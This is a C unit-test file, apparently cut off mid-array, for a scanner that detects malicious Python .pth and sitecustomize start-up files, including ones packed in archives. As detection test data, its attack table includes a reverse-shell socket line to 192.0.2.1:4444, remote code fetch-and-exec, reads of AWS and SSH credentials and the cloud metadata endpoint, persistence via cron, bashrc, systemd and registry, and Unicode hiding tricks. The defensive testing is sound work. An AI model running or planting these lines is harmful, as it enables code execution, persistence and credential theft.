/* SPDX-License-Identifier: MIT */
/* Start-up files: every attack is found, no real installer's line is. */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <archive.h>
#include <archive_entry.h>
#include <cmocka.h>
#include <zlib.h>

#include "icap-llmsec/pth.h"
#include "lib/arena.h"
#include "lib/buf.h"

#define L(l)	(1u << (l))

static unsigned
layers_of(const struct pth_report *r)
{
	unsigned m = 0;

	for (size_t i = 0; i < r->n; i++)
		m |= L(r->v[i].layer);
	return m;
}

static unsigned
check_as(const char *file, const char *data, size_t len)
{
	struct arena *a = arena_new(0);
	struct pth_report r = {0};
	unsigned m;

	pth_check(pth_kind(file), file, data, len, a, &r);
	m = layers_of(&r);
	assert_false(r.nomem);
	arena_free(&a);
	return m;
}

/* --- attacks --------------------------------------------------------------------------------------------- */

static const struct { const char *text; unsigned layers; } bad[] = {
	{"import os; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
	{"import os;os.popen('id').read()", L(PTH_START) | L(PTH_PROCESS)},
	{"import\tos; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
	{"import subprocess; subprocess.Popen(['sh', '-c', 'id'])", L(PTH_START) | L(PTH_PROCESS)},
	{"import subprocess,sys;subprocess.Popen([sys.executable,'-c','import x'])", L(PTH_START) | L(PTH_PROCESS)},
	{"import base64; exec(base64.b64decode('cHJpbnQoMSk='))", L(PTH_START) | L(PTH_EXEC) | L(PTH_BLOB)},
	{"import os, sys, zlib; exec(zlib.decompress(bytes.fromhex('789c4b04')))", L(PTH_START) | L(PTH_EXEC) | L(PTH_BLOB)},
	{"import sys; eval(compile('1', 'x', 'exec'))", L(PTH_START) | L(PTH_EXEC)},
	{"import marshal,types;types.FunctionType(marshal.loads(b'c'), {})()", L(PTH_START) | L(PTH_EXEC)},
	{"import urllib.request as u; exec(u.urlopen('https://a.example/x').read())", L(PTH_START) | L(PTH_EXEC) | L(PTH_PROCESS)},
	{"import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0)", L(PTH_START) | L(PTH_PROCESS)},
	{"import pty; pty.spawn('/bin/bash')", L(PTH_START) | L(PTH_PROCESS)},
	{"import ctypes; ctypes.CDLL('./x.so')", L(PTH_START) | L(PTH_PROCESS)},
	{"import os; open(os.path.expanduser('~/.bashrc'),'a').write('x')", L(PTH_START) | L(PTH_PERSIST)},
	{"import os; os.system('(crontab -l; echo x) | crontab -')", L(PTH_START) | L(PTH_PERSIST) | L(PTH_PROCESS)},
	{"import shutil; shutil.copy('x', '/etc/systemd/system/x.service')", L(PTH_START) | L(PTH_PERSIST)},
	{"import winreg; winreg.SetValueEx(k, 'x', 0, 1, 'x')", L(PTH_START) | L(PTH_PERSIST)},
	{"import os; d = open(os.path.expanduser('~/.aws/credentials')).read()", L(PTH_START) | L(PTH_CREDENTIAL)},
	{"import os; k = open('/root/.ssh/id_rsa').read()", L(PTH_START) | L(PTH_CREDENTIAL)},
	{"import os, json; d = json.dumps(dict(os.environ))", L(PTH_START) | L(PTH_CREDENTIAL)},
	{"import requests; requests.get('http://169.254.169.254/latest/')", L(PTH_START) | L(PTH_CREDENTIAL) | L(PTH_PROCESS)},
	/* hidden from a reader, or from a search for "import " at the start of a line */
	{"\xef\xbb\xbfimport os; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
	{"x\n\xef\xbb\xbfimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"\xc2\xa0import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"import\xc2\xa0os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"\xe3\x80\x80import os;os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"\xe2\x80\x8bimport os;os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"\xe2\x80\xaeimport os;os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{";;import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{" \t import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"# harmless\rimport os; os.system('id')", L(PTH_START) | L(PTH_PROCESS)},
	{"# harmless\x0cimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"# harmless\xe2\x80\xa8import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"# harmless\xc2\x85import os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"# harmless\x1cimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"foo\x0bimport os; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"a\r\nb\r\n\r\nimport os;os.system('id')\r\n", L(PTH_START) | L(PTH_PROCESS)},
	{"#!/usr/bin/python\nimport os;os.system('id')\n", L(PTH_START) | L(PTH_PROCESS)},
	{"%PDF-1.4\nimport os;os.system('id')\n", L(PTH_START) | L(PTH_PROCESS)},
	{"import os\x0c; os.system('id')", L(PTH_START) | L(PTH_HIDDEN)},
	{"import sys; \xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('1')", L(PTH_START) | L(PTH_HIDDEN)},
	/* round the vocabulary */
	{"import os; getattr(os, 'sys' 'tem')('id')", L(PTH_START) | L(PTH_EXEC)},
	{"import os; getattr(os, 'system')('id')", L(PTH_START) | L(PTH_EXEC)},
	{"import os; os.__dict__['system']('id')", L(PTH_START)},
	{"import os; f = os.__dict__.get('system'); f('id')", L(PTH_START)},
	{"import os, types; m = types.ModuleType('m'); f = os.__dict__.get('system'); m.__dict__.setdefault('install', f); m.install('id')",
	    L(PTH_START)},
	{"import os, types; m = types.ModuleType('m'); m.__dict__.setdefault('install', os.environ); m.install()", L(PTH_START)},
	{"import os; os.environ.setdefault('LD_PRELOAD', 'evil')", L(PTH_START)},
	{"import os; e = os.environ; e.setdefault('PYTHONPATH', 'evil')", L(PTH_START)},
	{"import sys; sys.path.insert(0, '/tmp/x')", L(PTH_START)},
	{"import sys; sys.path.append('evil')", L(PTH_START)},
	{"import sys; sys . path.append('evil')", L(PTH_START)},
	{"import sys as os; os.path.append('evil')", L(PTH_START)},
	{"import sys, os; os = sys; os.path.append('evil')", L(PTH_START)},
	{"import sys; p = sys; p.path.append('evil')", L(PTH_START)},
	{"from os import system as install; install('id')", L(PTH_START)},
	{"import x; x.install('id')", L(PTH_START)},
	{"import sys; x = __import__; x('os').system('id')", L(PTH_START) | L(PTH_EXEC)},
	{"import sys; __import__('subprocess').call('id')", L(PTH_START) | L(PTH_PROCESS)},
	{"import sys; (lambda: __import__('os').system('id'))()", L(PTH_START) | L(PTH_PROCESS)},
	{"import os; exec('if 1:\\n import x')", L(PTH_START) | L(PTH_EXEC)},
	{"import os; print(f'{os.getcwd()}')", L(PTH_START)},
	{"import evil; evil.run()", L(PTH_START)},
	{"import antigravity", L(PTH_START)},
	{"import os # x\rexec('1')", L(PTH_HIDDEN)},
	{"import os; _ = \"\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\"", L(PTH_START) | L(PTH_BLOB)},
	{"import os; __builtins__.exec('1')", L(PTH_START) | L(PTH_EXEC)},
	{"exec('import os')", L(PTH_HIDDEN)},
	/* paths */
	{"/tmp/x", L(PTH_PATH)},
	{"/tmp", L(PTH_PATH)},
	{"/var/tmp/lib", L(PTH_PATH)},
	{"/dev/shm/x", L(PTH_PATH)},
	{"  /tmp/x  ", L(PTH_PATH)},
	{"/tmp/x\xc2\xa0\xe2\x80\x83", L(PTH_PATH)},
	{"/tmp\xe3\x80\x80", L(PTH_PATH)},
	{"//tmp//x", L(PTH_PATH)},
	{"/usr/../tmp/x", L(PTH_PATH)},
	{"../../../../../../tmp/x", L(PTH_PATH)},
	{"foo/../../../../../tmp/.x", L(PTH_PATH)},
	{"/proc/self/cwd", L(PTH_PATH)},
	{"/run/user/1000/x", L(PTH_PATH)},
	{"/TMP/x", L(PTH_PATH)},
	{"/private/tmp/x", L(PTH_PATH)},
	{"C:\\Windows\\Temp\\x", L(PTH_PATH)},
	{"C:\\Users\\a\\AppData\\Local\\Temp", L(PTH_PATH)},
	{"\\\\?\\C:\\Windows\\Temp", L(PTH_PATH)},
	{"\\\\host\\share\\py", L(PTH_PATH)},
	{"good\n/tmp/evil.egg\n", L(PTH_PATH)},
};

static void
test_attacks(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		unsigned m = check_as("x.pth", bad[i].text, strlen(bad[i].text));

		if ((m & bad[i].layers) != bad[i].layers)
			fail_msg("%zu: %s: layers %x, not %x", i, bad[i].text, m, bad[i].layers);
	}
}

static void
test_attack_encodings(void **state)
{
	static const char wide[] = "\xff\xfei\0m\0p\0o\0r\0t\0 \0o\0s\0";
	static const char nul[] = "a\0import os; os.system('id')";
	char *big = calloc(1, 2 << 20), model[1024] = "PK\3\4";

	(void)state;
	assert_true(check_as("x.pth", wide, sizeof(wide) - 1) & L(PTH_HIDDEN));
	assert_true(check_as("x.pth", nul, sizeof(nul) - 1) & L(PTH_START));
	assert_non_null(big);
	memset(big, '#', 2 << 20);
	assert_true(check_as("x.pth", big, 2 << 20) & L(PTH_LIMIT));
	free(big);
	assert_int_equal(check_as("model.pth", model, sizeof(model)), 0);
	memcpy(model + 600, "\nimport os;os.system('id')\n", 27);
	assert_true(check_as("model.pth", model, sizeof(model)) & L(PTH_START));
	big = calloc(1, 8 << 10);
	assert_non_null(big);
	memset(big, 'a', 8 << 10);	/* a path that has no room, and one that has once its end is seen */
	big[0] = '/';
	assert_int_equal(check_as("x.pth", big, 8 << 10), L(PTH_PATH));
	for (size_t i = 0; i + 3 < 3000; i += 2)
		memcpy(big + i, "./", 2);
	memcpy(big, "/tmp//", 6);
	assert_int_equal(check_as("x.pth", big, 2998), L(PTH_PATH));
	for (size_t i = 0; i < 3000; i += 2)
		memcpy(big + i, "/a", 2);
	memcpy(big, "/t", 2);
	assert_int_equal(check_as("x.pth", big, 3000), 0);
	free(big);
	memcpy(model + 600, "\n/tmp/evil\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 27);
	assert_true(check_as("model.pth", model, sizeof(model)) & L(PTH_PATH));
}

/* --- what is not ----------------------------------------------------------------------------------------- */

/* setuptools' namespace packages: three generations of the line, for packages of one, two and three levels. */
#define NSPKG3(pkg, name) "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], " \
	"*(" pkg "));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');" \
	"m = has_mfs and sys.modules.setdefault('" name "', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('" name \
	"', [os.path.dirname(p)])));m = m or sys.modules.setdefault('" name "', types.ModuleType('" name "'));" \
	"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
#define NSPKG2(pkg, name) "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *(" pkg "));" \
	"ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('" name "', types.ModuleType('" name "'));" \
	"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"

static const char *const good[] = {
	NSPKG3("'mpl_toolkits',", "mpl_toolkits"), NSPKG3("'zope',", "zope"), NSPKG3("'repoze', 'who'", "repoze.who"),
	NSPKG3("'repoze',", "repoze") NSPKG3("'repoze', 'who'", "repoze.who") NSPKG3("'repoze', 'who', 'plugins'", "repoze.who.plugins"),
	NSPKG3("'sphinxcontrib',", "sphinxcontrib"), NSPKG3("'google',", "google"), NSPKG3("'ruamel',", "ruamel"),
	NSPKG3("'lazr',", "lazr"), NSPKG3("'flufl',", "flufl"), NSPKG3("'zc',", "zc"), NSPKG3("'logilab',", "logilab"),
	NSPKG2("'paste',", "paste"), NSPKG2("'backports',", "backports"), NSPKG2("'oslo', 'config'", "oslo.config"),
	"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
	    "enabled and __import__('_distutils_hack').add_shim(); \n",
	"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; "
	    "enabled and __import__('_distutils_hack').add_shim(); ",
	"import sys; sys.__plen = len(sys.path)\n./foo-1.0-py2.7.egg\nimport sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; "
	    "p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)\n",
	"import _virtualenv", "import _virtualenv\n",
	"import coverage; coverage.process_startup()\n", "import coverage; coverage.process_startup();\n",
	"import __editable___my_package_1_0_0_finder; __editable___my_package_1_0_0_finder.install()\n",
	"import __editable___x_finder; __editable___x_finder.install()",
	"# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\n\r\n# And some hackery to deal with environments\r\nimport pywin32_bootstrap\r\n",
	"import __future__\n", "import a_module, another.one\n", "import readline as rl\n",
	"import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:"
	    "\\n  sys.stderr.write(\\n   \"pytest-cov: Failed to setup subprocess coverage. \"\\n   \"Environ: {0!r} \"\\n   "
	    "\"Exception: {1!r}\\\\n\".format(\\n    dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),"
	    "\\n    exc\\n   )\\n  )\\n')\n",
	"", "\n", "\n\n\r\n", "# only a comment\n", "# import os; os.system('this is only written')\n",
	"PIL\n", "wx-3.0-gtk2\n", "gtk-2.0\n", "./foo.egg\n", "../other\n", "../../../../share/foo/python\n",
	"/usr/share/pyshared\n", "/home/dev/src/project/src\n", "/opt/temporary-works/lib\n", "/usr/lib/llvm-14/build/utils\n",
	"C:\\Users\\a\\source\\repos\\project\n", "/srv/\xd0\xbf\xd1\x80\xd0\xbe\xd0\xb5\xd0\xba\xd1\x82\n", "/tmpfiles/lib\n",
	"/var/lib/app\r\n/var/templates\r\n", "lib/python\nlib/more python\n", "importlib_stuff\n", "imports/of things\n",
	"\xef\xbb\xbf/opt/app\n", "matplotlib\n# trailing comment", "build/tmp/lib\n",
};

static void
test_legitimate(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(*good); i++) {
		unsigned m = check_as("x.pth", good[i], strlen(good[i]));

		if (m != 0)
			fail_msg("%zu: %s: layers %x", i, good[i], m);
	}
}

/*
 * The .pth files of 41 packages of Debian 12 (python3-..., main), byte for byte: setuptools wrote a line for each namespace, the same one several times
 * where packages of it are nested.  With pytest-cov 4.0.0-1 and setuptools 66.1.1-1+deb12u2, which are above, all that ship in the packages
 * that were fetched.
 */
static const struct { const char *package, *namespaces; } debian[] = {
	{"flufl.enum 4.1.1-5", "flufl"}, {"flufl.i18n 3.0.1-3", "flufl"}, {"flufl.lock 5.0.1-4", "flufl"},
	{"flufl.password 1.3-5", "flufl"}, {"flufl.testing 0.7-3", "flufl"}, {"lazr.config 2.2.3-3", "lazr"},
	{"lazr.delegates 2.0.4-1", "lazr"}, {"logilab-common 1.9.8-1", "logilab"}, {"logilab-constraint 0.6.0-3", "logilab"},
	{"matplotlib 3.6.3-1+b1", "mpl_toolkits"}, {"pastescript 3.2.1-1", "paste"}, {"repoze.lru 0.7-3", "repoze"},
	{"repoze.sphinx.autointerface 1.0.0-1", "repoze repoze repoze.sphinx"}, {"repoze.tm2 2.0-3", "repoze"},
	{"repoze.who 2.2-4", "repoze repoze repoze repoze.who repoze.who repoze.who.plugins"},
	{"ruamel.yaml 0.17.21-1", "ruamel"}, {"sphinxcontrib-log-cabinet 1.0.1-3", "sphinxcontrib"},
	{"sphinxcontrib.actdiag 2.0.0-1", "sphinxcontrib"}, {"sphinxcontrib.blockdiag 2.0.0-1", "sphinxcontrib"},
	{"sphinxcontrib.ditaa 1.0.2-3", "sphinxcontrib"}, {"sphinxcontrib.nwdiag 2.0.0-1", "sphinxcontrib"},
	{"sphinxcontrib.restbuilder 0.3-3", "sphinxcontrib"}, {"sphinxcontrib.seqdiag 2.0.0-1", "sphinxcontrib"},
	{"xstatic-filesaver 1.3.2.0-1.1", "xstatic xstatic xstatic.pkg"}, {"zc.buildout 2.13.2-4", "zc"},
	{"zc.customdoctests 1.0.1-3", "zc"}, {"zc.lockfile 2.0-4", "zc"}, {"zope.component 5.1.0-1", "zope"},
	{"zope.configuration 4.4.1-1", "zope"}, {"zope.deprecation 4.4.0-5", "zope"}, {"zope.event 4.4-3", "zope"},
	{"zope.exceptions 4.6-1", "zope"}, {"zope.hookable 5.1.0-1+b4", "zope"}, {"zope.i18nmessageid 5.0.1-2+b2", "zope"},
	{"zope.interface 5.5.2-1+b1", "zope"}, {"zope.location 4.2-2", "zope"}, {"zope.proxy 4.5.0-1+b3", "zope"},
	{"zope.schema 7.0.1-1", "zope"}, {"zope.security 5.8-1+b1", "zope"}, {"zope.testing 5.0.1-1", "zope"},
	{"zope.testrunner 5.6-1", "zope"},
};

static void
add_namespace(struct buf *b, const char *name, size_t n)
{
	const char *dot = memrchr(name, '.', n);
	int len = (int)n;

	buf_adds(b, "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('");
	for (size_t i = 0; i < n; i++)
		if (name[i] == '.')
			buf_adds(b, "', '");
		else
			buf_addc(b, name[i]);
	buf_printf(b, "'%s));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
	    "m = has_mfs and sys.modules.setdefault('%.*s', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('%.*s', "
	    "[os.path.dirname(p)])));m = m or sys.modules.setdefault('%.*s', types.ModuleType('%.*s'));mp = (m or []) and m.__dict__.setdefault("
	    "'__path__',[]);(p not in mp) and mp.append(p)", dot == NULL ? "," : "", len, name, len, name, len, name, len, name);
	if (dot != NULL)
		buf_printf(b, ";m and setattr(sys.modules['%.*s'], '%.*s', m)", (int)(dot - name), name, (int)(name + n - dot - 1), dot + 1);
	buf_addc(b, '\n');
}

static void
test_debian(void **state)
{
	static const char *const near[] = {"m and setattr(sys.modules['os'], 'system', m)", "m and setattr(sys.modules['a'], 'b', x)", "m and setattr(sys, 'b', m)",
		"m and setattr(sys.modules['a'], 'b', m)(1)", "m and setattr(sys.modules['a'], 'b' 'c', m)", "m and setattr(sys.modules['subprocess'], 'x', m)"};
	struct buf b = {0};

	(void)state;
	for (size_t i = 0; i < sizeof(debian) / sizeof(*debian); i++) {
		buf_clear(&b);
		for (const char *p = debian[i].namespaces; *p != '\0'; p += strspn(p, " ")) {
			size_t n = strcspn(p, " ");

			add_namespace(&b, p, n);
			p += n;
		}
		if (check_as("x-nspkg.pth", buf_ptr(&b), buf_len(&b)) != 0)
			fail_msg("%s: %x", debian[i].package, check_as("x-nspkg.pth", buf_ptr(&b), buf_len(&b)));
	}
	for (size_t i = 0; i < sizeof(near) / sizeof(*near); i++) {
		buf_clear(&b);
		buf_printf(&b, "import sys, types; m = sys.modules.setdefault('a', types.ModuleType('a')); x = sys; %s", near[i]);
		if ((check_as("x.pth", buf_ptr(&b), buf_len(&b)) & L(PTH_START)) == 0)
			fail_msg("%s: passed", near[i]);
	}
	buf_free(&b);
}

static void
test_customize(void **state)
{
	static const char apport[] = "# install the exception handler if there is one\ntry:\n    import apport_python_hook\nexcept ImportError:\n"
	    "    pass\nelse:\n    apport_python_hook.install()\n";
	static const char doc[] = "\"\"\"Nothing; it's\nonly here.\"\"\"\n'''more'''\nimport sys\n";
	static const char evil[] = "import os\n\ndef f():\n    os.system('id')\n\nf()\n";
	static const char recoded[] = "# coding: utf-7\nimport sys\n# +AAo-import os+ADs-os.system('id')\n";
	static const char quiet[] = "\"\"\"x\"\"\" ; exec('1')\n";

	(void)state;
	assert_int_equal(check_as("sitecustomize.py", apport, sizeof(apport) - 1), 0);
	assert_int_equal(check_as("sitecustomize.py", doc, sizeof(doc) - 1), 0);
	assert_int_equal(check_as("usercustomize.py", "", 0), 0);
	assert_true(check_as("usercustomize.py", evil, sizeof(evil) - 1) & L(PTH_PROCESS));
	assert_true(check_as("sitecustomize.py", quiet, sizeof(quiet) - 1) & L(PTH_EXEC));
	assert_int_equal(check_as("sitecustomize.py", recoded, sizeof(recoded) - 1), L(PTH_HIDDEN));
	assert_int_equal(check_as("__pycache__/sitecustomize.cpython-311.pyc", "\xa7\r\r\n\0\0\0\0timesize", 16), 0);
	assert_int_equal(check_as("__pycache__/sitecustomize.cpython-311.pyc", "\xa7\r\r\n\3\0\0\0of-hash.", 16), 0);
	assert_int_equal(check_as("__pycache__/sitecustomize.cpython-311.pyc", "\xa7\r\r\n\1\0\0\0of-hash.", 16), L(PTH_LIMIT));
	assert_true(check_as("sitecustomize.cpython-311-x86_64-linux-gnu.so", "\x7f" "ELF", 4) & L(PTH_LIMIT));
}

static void
test_names(void **state)
{
	static const struct { const char *path; enum pth_kind kind; } t[] = {
		{"a.pth", PTH_FILE}, {"A.PTH", PTH_FILE}, {"x/y/z.pTh", PTH_FILE}, {"a.pth.", PTH_FILE}, {"a.pth ", PTH_FILE},
		{"a.pth::$DATA", PTH_FILE}, {"a:b.pth", PTH_FILE}, {"a:b.pth/x", PTH_NONE}, {"x\\y.pth", PTH_FILE}, {".pth", PTH_FILE}, {"pth", PTH_NONE}, {"a.pth.txt", PTH_NONE},
		{"a.pth/x", PTH_NONE}, {"sitecustomize.py", PTH_CUSTOMIZE}, {"./sitecustomize.py", PTH_CUSTOMIZE},
		{"SiteCustomize.PY", PTH_CUSTOMIZE}, {"pkg-1.0/usercustomize.py", PTH_CUSTOMIZE}, {"sitecustomize/__init__.py", PTH_CUSTOMIZE},
		{"pkg-1.0/src/sitecustomize.py", PTH_CUSTOMIZE}, {"p-1.data/purelib/sitecustomize.py", PTH_CUSTOMIZE},
		{"usr/lib/python3.11/sitecustomize.py", PTH_CUSTOMIZE}, {"sitecustomize.pyc", PTH_OPAQUE},
		{"sitecustomize.abi3.so", PTH_OPAQUE}, {"usercustomize.cp311-win_amd64.pyd", PTH_OPAQUE},
		{"__pycache__/sitecustomize.cpython-311.pyc", PTH_CACHE}, {"a/b/c/__pycache__/sitecustomize.cpython-311.pyc", PTH_NONE}, {"agent/boot/strap/sitecustomize.py", PTH_NONE},
		{"mysitecustomize.py", PTH_NONE}, {"sitecustomize.txt", PTH_NONE}, {"", PTH_NONE}, {"/", PTH_NONE},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++)
		if (pth_kind(t[i].path) != t[i].kind)
			fail_msg("%s: %d", t[i].path, pth_kind(t[i].path));
}

/* --- archives -------------------------------------------------------------------------------------------- */

struct member { const char *name, *data; size_t len; };

static void
pack(struct buf *out, int format, int filter, const struct member *m, size_t n)
{
	struct archive *a = archive_write_new();
	size_t cap = 4 << 20, used = 0;
	char *mem = malloc(cap);

	assert_int_equal(archive_write_set_format(a, format), ARCHIVE_OK);
	assert_int_equal(archive_write_add_filter(a, filter), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, mem, cap, &used), ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();

		archive_entry_set_pathname(e, m[i].name);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_entry_set_size(e, (la_int64_t)m[i].len);
		assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
		archive_write_data(a, m[i].data, m[i].len);
		archive_entry_free(e);
	}
	archive_write_close(a);
	archive_write_free(a);
	buf_add(out, mem, used);
	free(mem);
}

static unsigned
check_archive(const char *name, const struct buf *b, const struct pth_limits *lim, size_t *files)
{
	struct arena *a = arena_new(0);
	struct pth_report r = {0};
	unsigned m;

	pth_check_archive(name, buf_ptr(b), buf_len(b), lim, a, &r);
	m = layers_of(&r);
	*files = r.files;
	assert_false(r.nomem);
	arena_free(&a);
	return m;
}

static const char evil_line[] = "import os; os.system('id')\n", good_line[] = "import _virtualenv\n";
#define MEMBER(n, d)	{n, d, sizeof(d) - 1}

static void
test_archives(void **state)
{
	static const struct { int format, filter; } how[] = {
		{ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE}, {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE},
		{ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP}, {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_BZIP2},
		{ARCHIVE_FORMAT_TAR_GNUTAR, ARCHIVE_FILTER_XZ}, {ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE},
		{ARCHIVE_FORMAT_CPIO_POSIX, ARCHIVE_FILTER_GZIP},
	};
	const struct member bad_m[] = {MEMBER("pkg/__init__.py", "x = 1\n"), MEMBER("pkg-1.0.data/purelib/Zz.PtH", evil_line)};
	const struct member good_m[] = {MEMBER("pkg/__init__.py", "import os; os.system('not at start-up')\n"), MEMBER("a.pth", good_line),
	    MEMBER("pkg/deep/er/sitecustomize.py", "import os; os.system('id')\n"), MEMBER("_virtualenv.py", "import sys\n")};
	size_t files;

	(void)state;
	for (size_t i = 0; i < sizeof(how) / sizeof(*how); i++) {
		struct buf inner = {0}, outer = {0}, good_b = {0};

		pack(&inner, how[i].format, how[i].filter, bad_m, 2);
		assert_true(check_archive("x.whl", &inner, NULL, &files) & L(PTH_PROCESS));
		assert_int_equal(files, 1);
		for (size_t k = 0; k < sizeof(how) / sizeof(*how); k++) {
			struct member nest = {"vendor/inner.bin", buf_ptr(&inner), buf_len(&inner)};

			buf_clear(&outer);
			pack(&outer, how[k].format, how[k].filter, &nest, 1);
			assert_true(check_archive("x.tar.gz", &outer, NULL, &files) & L(PTH_START));
		}
		pack(&good_b, how[i].format, how[i].filter, good_m, 4);
		assert_int_equal(check_archive("x.whl", &good_b, NULL, &files), 0);
		assert_int_equal(files, 1);
		buf_free(&inner);
		buf_free(&outer);
		buf_free(&good_b);
	}
}

static void
test_archive_limits(void **state)
{
	struct buf b = {0}, next = {0};
	char *zeros = calloc(1, 512 << 10);
	struct member m = MEMBER("a.pth", evil_line), many[20];
	struct pth_limits lim = {.unpacked = 100000}, few = {.entries = 10};
	size_t files;

	(void)state;
	assert_non_null(zeros);
	/* deeper than is looked at */
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
	for (int i = 0; i < 5; i++) {
		struct member nest = {"n.zip", buf_ptr(&b), buf_len(&b)};

		buf_clear(&next);
		pack(&next, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &nest, 1);
		buf_clear(&b);
		buf_add(&b, buf_ptr(&next), buf_len(&next));
	}
	assert_true(check_archive("x.zip", &b, NULL, &files) & L(PTH_LIMIT));
	/* more than is unpacked, in a file that is read and in one that is skipped */
	m = (struct member){"a.pth", zeros, 512 << 10};
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
	assert_true(check_archive("x.zip", &b, &lim, &files) & L(PTH_LIMIT));
	m.name = "a.dat";
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, &m, 1);
	assert_true(check_archive("x.tgz", &b, &lim, &files) & L(PTH_LIMIT));
	/* entries */
	for (size_t i = 0; i < 20; i++)
		many[i] = (struct member)MEMBER("x", "y");
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, many, 20);
	assert_true(check_archive("x.tar", &b, &few, &files) & L(PTH_LIMIT));
	/* no archive, and one that was cut */
	buf_clear(&b);
	buf_adds(&b, "this is no archive");
	assert_true(check_archive("x.whl", &b, NULL, &files) & L(PTH_LIMIT));
	m = (struct member)MEMBER("a.pth", evil_line);
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
	b.len -= 20;
	assert_true(check_archive("x.whl", &b, NULL, &files) != 0);
	buf_free(&b);
	buf_free(&next);
	free(zeros);
}

static void
test_packed_alone(void **state)
{
	struct buf b = {0};
	struct member m = MEMBER("x", evil_line);
	size_t files;

	(void)state;
	pack(&b, ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, &m, 1);
	assert_true(check_archive("dir/a.pth.gz", &b, NULL, &files) & L(PTH_PROCESS));
	assert_int_equal(check_archive("dir/a.txt.gz", &b, NULL, &files), 0);
	buf_free(&b);
}

/* A name outside ASCII is a name in any locale. */
static void
test_utf8_names(void **state)
{
	struct buf b = {0};
	struct member m = {"pkg/\xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb.pth", evil_line, sizeof(evil_line) - 1};
	struct member g = {"pkg/\xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb.txt", evil_line, sizeof(evil_line) - 1};
	size_t files;

	(void)state;
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
	assert_true(check_archive("x.zip", &b, NULL, &files) & L(PTH_PROCESS));
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &g, 1);
	assert_int_equal(check_archive("x.zip", &b, NULL, &files), 0);
	buf_free(&b);
}

/* Zips whose directory some readers take and libarchive doesn't. */
static void
test_zip_directory(void **state)
{
	static const struct { const char *what; size_t back; unsigned char value; } t[] = {	/* <back>: from the end */
